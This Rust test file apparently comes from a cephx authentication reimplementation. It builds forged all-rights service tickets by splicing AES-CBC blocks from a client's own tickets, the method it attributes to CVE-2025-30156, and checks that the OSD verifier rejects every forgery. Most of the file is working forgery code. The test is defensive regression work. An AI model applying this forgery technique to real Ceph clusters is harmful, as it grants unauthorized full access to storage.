//! A client forges a ticket with all rights from blocks of its own tickets, as CVE-2025-30156
//! allows if tickets are encrypted with AES-CBC. It knows the content of its tickets, and so the
//! decryption of each block, before the exclusive or with the block in front. With some thousand
//! blocks it finds a chain that decrypts to a text of its choice.

use std::collections::HashMap;

use aes::Aes128;
use cbc::cipher::{BlockModeDecrypt, BlockModeEncrypt, KeyIvInit, block_padding::Pkcs7};
use spirula_cephx::wire::{Authorize, Challenge, ResponseHeader, ServiceTicketInfo, TicketBlob};
use spirula_cephx::*;
use spirula_denc::{Decode, Encode, EntityType, Reader, Writer, decode_all};
use spirula_errno::EACCES;

use crate::cluster::*;

const IV: &[u8; 16] = b"cephsageyudagreg";
const MAGIC: u64 = 0xff00_9cad_8826_aa55;
/// Thirteen bytes of name, so that a block begins with the capabilities and the block before it
/// holds only dates.
const NAME: &str = "client.thirteenbytes";
const CAPS: &str = "allow r pool=a";
const TICKETS: usize = 10_000;
const CANDIDATES: usize = 3_000;

type Block = [u8; 16];

fn xor(a: &Block, b: &Block) -> Block {
    std::array::from_fn(|i| a[i] ^ b[i])
}

/// The official envelope, encrypted for key type 1.
fn seal(key: &[u8; 16], value: &impl Encode) -> Vec<u8> {
    let cipher = cbc::Encryptor::<Aes128>::new(key.into(), IV.into());
    cipher.encrypt_padded_vec::<Pkcs7>(&envelope(value))
}

fn envelope(value: &impl Encode) -> Vec<u8> {
    let mut w = Writer::new();
    w.u8(1);
    w.u64(MAGIC);
    w.put(value);
    w.into_vec()
}

fn open<T: Decode>(key: &[u8; 16], sealed: &[u8]) -> T {
    let cipher = cbc::Decryptor::<Aes128>::new(key.into(), IV.into());
    let plain = cipher.decrypt_padded_vec::<Pkcs7>(sealed).unwrap();
    decode_all(&plain[9..]).unwrap()
}

/// A ticket of the attacker, with its known content.
struct Known {
    blob: TicketBlob,
    info: ServiceTicketInfo,
}

/// Asks for a ticket for OSDs once more.
fn collect(mon: &Mon, l: &mut LoggedIn) -> Known {
    let env = at(T0);
    let auth = l
        .keys
        .session
        .tickets()
        .authorizer(EntityType::AUTH, &env)
        .unwrap();
    let mut w = Writer::new();
    w.u16(0x200);
    w.bytes(&auth.initial(&env).unwrap());
    w.put(&wire::ServiceTicketRequest {
        keys: u32::from(EntityType::OSD.0),
    });
    let reply = l.server.handle_auth(&w.into_vec(), mon, &env);
    let mut r = Reader::new(&reply.payload);
    r.get::<ResponseHeader>().unwrap();
    // A version, one ticket: its service, a version, the holder's part, not encrypted again, the
    // blob.
    assert_eq!((r.u8().unwrap(), r.u32().unwrap(), r.u32().unwrap()), (1, 1, 4));
    r.u8().unwrap();
    let key = l.keys.session_key.secret().try_into().unwrap();
    let ours: wire::ServiceTicket = open(key, r.blob().unwrap());
    assert!(!r.bool().unwrap());
    let blob = decode_all(r.blob().unwrap()).unwrap();
    let ticket = AuthTicket {
        name: name(NAME),
        global_id: l.accepted.global_id,
        created: env.now,
        expires: env.now.plus(ours.validity.to_duration()),
        caps: AuthCaps::from_text(CAPS),
        flags: 0,
    };
    let info = ServiceTicketInfo {
        ticket,
        session_key: ours.session_key,
    };
    Known { blob, info }
}

/// Blocks of tickets with their decryptions.
struct Pool(Vec<(Block, Block)>);

impl Pool {
    fn new(tickets: &[Known]) -> Self {
        let mut pool = Vec::new();
        for ticket in tickets {
            let mut plain = envelope(&ticket.info);
            let padding = 16 - plain.len() % 16;
            plain.resize(plain.len() + padding, padding as u8);
            let plain = plain.as_chunks::<16>().0;
            let sealed = ticket.blob.blob.as_chunks::<16>().0;
            // From here on they differ from ticket to ticket, as they hold the session key or come
            // behind it.
            for i in 6..plain.len().min(sealed.len()) {
                pool.push((sealed[i], xor(&plain[i], &sealed[i - 1])));
            }
        }
        Self(pool)
    }

    /// A block whose decryption behind `before` has this byte at this place.
    fn with_byte(&self, before: &Block, at: usize, byte: u8) -> (Block, Block) {
        let fits = |(_, d): &&(Block, Block)| d[at] ^ before[at] == byte;
        *self.0.iter().find(fits).unwrap()
    }
}

/// A ticket that reads `allow *`, and the session key in it.
struct Forged {
    blob: TicketBlob,
    key: [u8; 16],
}

/// Whether the bytes behind the text fit: flags, the key's type, its date, and a length that the
/// chain can have.
fn continues(p5: &Block) -> bool {
    p5[0] == b'*' && p5[5..7] == [1, 0] && p5[15] >= 16
}

/// The rest of the chain behind `c5`: a secret of `len` bytes, then bytes that make correct
/// padding.
fn tail(pool: &Pool, c5: &Block, len: u8) -> (Vec<u8>, [u8; 16]) {
    let blocks = (usize::from(len) + 2).div_ceil(16);
    let (mut sealed, mut plain, mut before) = (Vec::new(), Vec::new(), *c5);
    for n in 0..blocks {
        let (c, d) = match n {
            0 => pool.with_byte(&before, 0, 0),
            n if n + 1 == blocks => pool.with_byte(&before, 15, 1),
            n => pool.0[n],
        };
        plain.extend(xor(&d, &before));
        sealed.extend(c);
        before = c;
    }
    (sealed, plain[1..17].try_into().unwrap())
}

fn forge(model: &Known, pool: &Pool) -> Vec<Forged> {
    let mut by_bytes: HashMap<[u8; 3], Vec<usize>> = HashMap::new();
    for (n, (c, _)) in pool.0.iter().enumerate() {
        by_bytes.entry([c[0], c[5], c[6]]).or_default().push(n);
    }
    let mut out = Vec::new();
    for (c5, d5) in &pool.0 {
        let wanted = [d5[0] ^ b'*', d5[5] ^ 1, d5[6]];
        for n in by_bytes.get(&wanted).into_iter().flatten() {
            let (c4, d4) = &pool.0[*n];
            let p5 = xor(d5, c4);
            if !continues(&p5) {
                continue;
            }
            let (rest, key) = tail(pool, c5, p5[15]);
            // The version is not looked at; each gives the dates another value.
            for version in 0..=255 {
                let p4 = [&[version, 0, 11, 0, 0, 0, 7, 0, 0, 0][..], b"allow "].concat();
                let c3 = xor(d4, &p4.try_into().unwrap());
                let blob = [&model.blob.blob[..48], &c3, c4, c5, &rest].concat().into();
                let secret_id = model.blob.secret_id;
                out.push(Forged {
                    blob: TicketBlob { secret_id, blob },
                    key,
                });
            }
            if out.len() > CANDIDATES {
                return out;
            }
        }
    }
    out
}

/// The rights with which an OSD lets the holder of a ticket in.
fn enter(global_id: u64, forged: &Forged, keys: &RotatingKeys) -> Option<String> {
    let (env, mode) = (at(T0), ConnectionMode::Crc);
    let payload = |challenge_plus_one| {
        let mut w = Writer::new();
        w.u8(1);
        w.u64(global_id);
        w.u32(u32::from(EntityType::OSD.0));
        w.put(&forged.blob);
        let body = Authorize {
            nonce: 5,
            challenge_plus_one,
        };
        w.blob(&seal(&forged.key, &body));
        w.into_vec()
    };
    let mut osd = AuthorizerVerifier::new();
    match osd.handle(method::CEPHX, mode, &payload(None), keys, &env) {
        Outcome::More(sealed) => {
            let challenge: Challenge = open(&forged.key, &sealed);
            let answer = payload(Some(challenge.server_challenge.wrapping_add(1)));
            let accepted = done(osd.handle(method::CEPHX, mode, &answer, keys, &env));
            Some(accepted.caps.text().unwrap())
        }
        Outcome::Denied { errno, .. } => {
            assert_eq!(errno, EACCES);
            None
        }
        Outcome::Done(_) => panic!("without a challenge"),
    }
}

#[test]
fn no_ticket_can_be_made_of_the_blocks_of_others() {
    let mut mon = Mon::new();
    mon.add(NAME, &[("mon", "allow r"), ("osd", CAPS)]);
    let keys = osd_secrets(&mon, T0);
    let mut l = login(&mon, NAME, T0);
    let tickets: Vec<Known> = (0..TICKETS).map(|_| collect(&mon, &mut l)).collect();
    // Its true tickets give the rights that they name.
    let honest = l
        .keys
        .session
        .tickets()
        .authorizer(EntityType::OSD, &at(T0))
        .unwrap();
    let accepted = authorize(honest, &keys, &at(T0)).unwrap();
    assert_eq!(accepted.caps.text().unwrap(), CAPS);

    let forged = forge(&tickets[0], &Pool::new(&tickets));
    assert!(forged.len() > 500, "only {} candidates", forged.len());
    for ticket in &forged {
        assert_eq!(enter(l.accepted.global_id, ticket, &keys), None);
    }
}
